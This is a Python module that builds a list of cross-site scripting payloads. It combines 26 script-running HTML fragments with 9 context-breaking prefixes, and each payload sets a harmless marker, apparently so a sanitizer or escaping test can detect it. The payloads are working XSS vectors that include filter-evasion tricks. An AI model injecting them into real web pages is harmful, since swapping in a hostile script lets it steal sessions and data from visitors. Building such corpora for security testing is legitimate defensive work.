"""More than 200 texts that would run a script where they are taken for markup, made of parts so that each is a kind."""

from itertools import product

MARK = "window.__hit=1"
TAGS = (
    f"<script>{MARK}</script>",
    f"<ScRiPt>{MARK}</sCrIpT>",
    f"<scr<script>ipt>{MARK}</scr</script>ipt>",
    f"<img src=x onerror={MARK}>",
    f"<img src=x onerror='{MARK}'//",
    f"<svg onload={MARK}>",
    f"<svg><script>{MARK}</script></svg>",
    f"<svg><animate onbegin={MARK} attributeName=x dur=1s>",
    f"<body onload={MARK}>",
    f"<iframe srcdoc='<script>parent.{MARK}</script>'></iframe>",
    f'<iframe src="javascript:parent.{MARK}"></iframe>',
    f"<details open ontoggle={MARK}>",
    f"<video><source onerror={MARK}></video>",
    f"<audio src=x onerror={MARK}>",
    f"<input autofocus onfocus={MARK}>",
    f"<select autofocus onfocus={MARK}>",
    f"<math><mtext></mtext><script>{MARK}</script></math>",
    f'<a href="javascript:{MARK}">x</a>',
    f'<object data="javascript:{MARK}"></object>',
    f'<embed src="javascript:{MARK}">',
    f"<style>@import 'javascript:{MARK}';</style>",
    f"<marquee onstart={MARK}>x</marquee>",
    f'<meta http-equiv=refresh content="0;url=javascript:{MARK}">',
    f'<form action="javascript:{MARK}"><input type=submit autofocus></form>',
    f"<template><script>{MARK}</script></template>",
    f"<img src=`x` onerror=`{MARK}`>",
)
AROUND = (
    "{}",
    "</pre>{}",
    "</textarea>{}",
    "</script>{}",
    "</style>{}",
    '">{}',
    "'>{}",
    "]]>{}<!--",
    "--!>{}",
)
PAYLOADS = tuple(around.format(tag) for around, tag in product(AROUND, TAGS))
"""Each is inert as text and runs as markup."""
